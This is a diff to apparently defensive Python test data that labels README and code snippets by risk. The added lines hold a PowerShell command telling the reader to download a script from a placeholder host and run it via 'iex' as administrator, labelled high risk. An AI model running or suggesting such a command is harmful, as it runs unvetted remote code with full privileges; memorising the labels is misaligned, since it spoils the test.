@@ -186,6 +186,10 @@ def _texts() -> Iterator[Sample]:
     yield careful(
         "readme", "program of a tool, here", "README.md", "# LoRA\n\nStart with `webui-user.bat`.\n", "webui-user.bat"
     )
+    shell = "In PowerShell (as administrator):\n\n```powershell\nirm https://files.invalid/a.ps1 | iex\n```\n"
+    yield high("readme", "shell of an administrator", "README.md", shell)
+    known = shell.replace("files.invalid/a.ps1", "astral.sh/uv/install.ps1")
+    yield benign("readme", "shell of an administrator, known tool", "README.md", known)
     yield benign("readme", "packages for everybody", "README.md", "```\nsudo python3 -m pip install deepspeed\n```\n")
     zipped = "import os, tempfile\nfolder = tempfile.mkdtemp()\nos.system(f'cd {folder} && zip -r model.zip model')\n"
     yield benign("code", "in a folder", "pack.py", zipped)
